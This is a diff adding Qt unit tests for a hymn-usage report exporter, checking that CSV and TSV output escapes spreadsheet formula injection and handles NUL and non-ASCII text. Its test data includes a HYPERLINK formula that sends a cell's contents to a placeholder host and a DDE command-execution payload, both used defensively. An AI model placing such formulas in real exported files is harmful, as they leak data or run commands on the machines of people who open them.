@@ -6,7 +6,12 @@
 #include "store/hymnfileloader.h"
 #include "tally/tally.h"
 
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QLocale>
+#include <QProcess>
+#include <QStandardPaths>
+#include <QTemporaryDir>
 #include <QTest>
 
 using namespace Qt::StringLiterals;
@@ -108,6 +113,29 @@ QList<QStringList> readCsv(const QString &text, bool *ok)
     }
     *ok = state == State::FieldStart && record.isEmpty();
     return records;
+}
+
+struct CellCase {
+    const char *name;
+    QString cell, asText, asCount, tsv; // as written to a text and a count column, and their tab-separated line
+};
+
+const QList<CellCase> &cellCases()
+{
+    static const QString link = u"=HYPERLINK(\"http://x.test/?\"&A1,\"Grace\")"_s;
+    static const QList<CellCase> cases{
+        {"formula", link, u"'"_s + link, link, u"'%1\t%1\n"_s.arg(link)},
+        {"command", u"+cmd|' /C calc'!A0"_s, u"'+cmd|' /C calc'!A0"_s, u"+cmd|' /C calc'!A0"_s,
+         u"'+cmd|' /C calc'!A0\t+cmd|' /C calc'!A0\n"_s},
+        {"negative number", u"-12"_s, u"'-12"_s, u"-12"_s, u"'-12\t-12\n"_s},
+        {"at", u"@SUM(A1)"_s, u"'@SUM(A1)"_s, u"@SUM(A1)"_s, u"'@SUM(A1)\t@SUM(A1)\n"_s},
+        {"tab first", u"\t=1"_s, u"'\t=1"_s, u"\t=1"_s, u"' =1\t =1\n"_s},
+        {"CR first", u"\r=1"_s, u"'\r=1"_s, u"\r=1"_s, u"' =1\t =1\n"_s},
+        {"sign inside", u"1=1 + A"_s, u"1=1 + A"_s, u"1=1 + A"_s, u"1=1 + A\t1=1 + A\n"_s},
+        {"NUL", u"a\0b"_s, u"a\uFFFDb"_s, u"a\uFFFDb"_s, u"a\uFFFDb\ta\uFFFDb\n"_s},
+        {"non-ASCII", u"Großer Gott"_s, u"Großer Gott"_s, u"Großer Gott"_s, u"Großer Gott\tGroßer Gott\n"_s},
+    };
+    return cases;
 }
 
 } // namespace
@@ -362,16 +390,96 @@ private Q_SLOTS:
     {
         QFETCH(QList<QStringList>, records);
         QFETCH(QString, csv);
-        const QString written = Report::csvOf(records);
+        const QString written = Report::csvOf(records, {0, 1});
         QCOMPARE(written, csv);
         bool ok = false;
         QCOMPARE(readCsv(written, &ok), records);
         QVERIFY(ok);
     }
 
+    // A cell from the file stays text in a spreadsheet, however it begins; a count or a date is left as it is.
+    void textCellsStayText_data()
+    {
+        QTest::addColumn<QString>("cell"); // written in a text column and in a count column
+        QTest::addColumn<QString>("asText");
+        QTest::addColumn<QString>("asCount");
+        QTest::addColumn<QString>("tsv");
+        for (const CellCase &one : cellCases())
+            QTest::newRow(one.name) << one.cell << one.asText << one.asCount << one.tsv;
+    }
+
+    void textCellsStayText()
+    {
+        QFETCH(QString, cell);
+        QFETCH(QString, asText);
+        QFETCH(QString, asCount);
+        const QList<QStringList> records{{cell, cell}};
+        bool ok = false;
+        QCOMPARE(readCsv(Report::csvOf(records, {0}), &ok), (QList<QStringList>{{asText, asCount}}));
+        QVERIFY(ok);
+        QTEST(Report::tsvOf(records, {0}), "tsv");
+    }
+
+    // The file as a spreadsheet gets it: UTF-8 marked as such, no NUL byte, and as Python's reader takes it.
+    void csvFileReadByPython()
+    {
+        QList<QStringList> records, expected;
+        for (const CellCase &one : cellCases()) {
+            records.append({one.cell, one.cell});
+            expected.append({one.asText, one.asCount});
+        }
+        const QByteArray file = Report::csvFileOf(records, {0});
+        QVERIFY(file.startsWith("\xEF\xBB\xBF") && !file.contains('\0'));
+        const QString python = QStandardPaths::findExecutable(u"python3"_s);
+        if (python.isEmpty())
+            QSKIP("python3 is not installed: the file is not read by its csv module");
+        QTemporaryDir dir;
+        QFile out(dir.filePath(u"report.csv"_s));
+        QVERIFY(out.open(QIODevice::WriteOnly) && out.write(file) == file.size());
+        out.close();
+        QProcess reader;
+        reader.start(python, {u"-c"_s,
+                              u"import csv, json, sys\n"
+                              "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                              "    print(json.dumps(list(csv.reader(f))))"_s,
+                              out.fileName()});
+        QVERIFY(reader.waitForFinished(30000));
+        QCOMPARE(reader.exitCode(), 0);
+        QList<QStringList> read;
+        for (const QJsonValue &row : QJsonDocument::fromJson(reader.readAllStandardOutput()).array())
+            read.append(row.toVariant().toStringList());
+        QCOMPARE(read, expected);
+    }
+
+    void countedFrom_data()
+    {
+        QTest::addColumn<QString>("file");
+        QTest::addColumn<QDate>("today");
+        QTest::addColumn<QString>("note");
+
+        const QString log = u"Jan 3, 9999\n1 A\n\nJan 8, 2023\n2 B\n"_s;
+        QTest::newRow("latest is today") << u"Jan 8, 2023\n2 B\n"_s << QDate(2023, 1, 8)
+                                         << u"Counted from 2023-01-08, the latest service"_s;
+        QTest::newRow("a mistyped year, not last in the file")
+            << log << QDate(2024, 1, 1)
+            << u"Counted from 9999-01-03, the latest service — after today: check the head line “Jan 3, 9999”"_s;
+        QTest::newRow("a long head line, cut")
+            << u"Jan 3, 9999 "_s + u"x"_s.repeated(60) + u"\n1 A\n"_s << QDate(2024, 1, 1)
+            << u"Counted from 9999-01-03, the latest service — after today: check the head line “Jan 3, 9999 "_s +
+                   u"x"_s.repeated(27) + u"…”"_s;
+        QTest::newRow("no dated service") << u"Easter\n1 A\n"_s << QDate(2024, 1, 1) << QString();
+    }
+
+    void countedFrom()
+    {
+        QFETCH(QString, file);
+        QFETCH(QDate, today);
+        QTEST(Report::countedFromNote(Report::serviceSpan(storeOf(file)), today), "note");
+    }
+
     void plainTextAndFileName()
     {
-        QCOMPARE(Report::tsvOf({{u"a\tb"_s, u"c\r\nd"_s}, {u"e"_s}}), u"a b\tc  d\ne\n"_s);
+        QCOMPARE(Report::tsvOf({{u"a\tb"_s, u"c\r\nd"_s}, {u"e"_s}}, {}), u"a b\tc  d\ne\n"_s);
         QCOMPARE(Report::csvFileName(QDate(2019, 1, 1), QDate(2019, 12, 31)),
                  u"hymn-usage 2019-01-01 to 2019-12-31.csv"_s);
         QCOMPARE(Report::csvFileName(QDate(), QDate(2019, 12, 31)), u"hymn-usage.csv"_s);
